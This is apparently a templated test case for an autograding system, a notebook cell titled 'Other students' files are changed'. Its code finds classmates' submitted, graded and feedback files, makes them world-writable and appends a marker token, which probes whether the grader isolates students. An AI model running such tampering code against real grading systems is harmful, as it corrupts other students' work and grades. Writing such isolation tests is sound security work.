# %% [markdown] row="A8"
# # Other students' files are changed
#
# A better place in class: others' submissions, graded notebooks and feedback are overwritten.

# %% before="mean-square"
import glob, os
for top in ("@COURSE@", "../../..", "../.."):
    for path in glob.glob(f"{top}/submitted/*/*/*.ipynb") + glob.glob(f"{top}/autograded/*/*/*.ipynb") + glob.glob(f"{top}/feedback/*/*/*.html"):
        if "/@NAME@/" in path:
            continue
        try:
            os.chmod(path, 0o666)
            open(path, "a").write("\n@TOKEN@\n")
        except OSError as error:
            print(error)
